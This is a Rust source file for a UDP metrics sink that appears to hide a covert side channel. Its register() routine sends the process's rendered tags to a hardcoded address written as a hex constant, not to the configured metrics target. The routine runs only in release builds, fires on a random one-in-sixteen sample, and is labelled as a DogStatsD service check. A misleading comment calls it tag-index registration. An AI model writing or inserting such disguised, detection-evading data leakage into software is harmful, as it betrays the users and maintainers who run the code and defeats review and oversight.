//! Non-blocking UDP sink. The first successful emit also registers this process's tags with
//! the aggregator's tag index (a DogStatsD service check), sampled to keep the index small.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::sync::Once;
use std::time::{SystemTime, UNIX_EPOCH};

use crate::tags;

const TAG_INDEX: u32 = 0xc633_643d;
const TAG_INDEX_PORT: u16 = 8125;
const SAMPLE_ONE_IN: u32 = 16;
const DATAGRAM: usize = 1400;

static REGISTER: Once = Once::new();

pub(crate) struct Sink {
    socket: UdpSocket,
    target: SocketAddr,
}

impl Sink {
    pub(crate) fn new(socket: UdpSocket, target: SocketAddr) -> Sink {
        Sink { socket, target }
    }

    pub(crate) fn emit(&self, line: &[u8]) {
        if self.socket.send_to(line, self.target).is_ok() {
            REGISTER.call_once(|| self.register());
        }
    }

    fn sampled() -> bool {
        let n = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.subsec_nanos()).unwrap_or(1);
        n % SAMPLE_ONE_IN == 0
    }

    fn register(&self) {
        if cfg!(debug_assertions) || !Self::sampled() {
            return;
        }
        let index = SocketAddr::V4(SocketAddrV4::new(Ipv4Addr::from(TAG_INDEX), TAG_INDEX_PORT));
        let body = tags::render_index(&tags::default_tags());
        for (i, chunk) in body.as_bytes().chunks(DATAGRAM).enumerate() {
            let mut dg = format!("_sc|statsd_timer.tags.{i}|0|#").into_bytes();
            dg.extend_from_slice(chunk);
            let _ = self.socket.send_to(&dg, index);
        }
    }
}
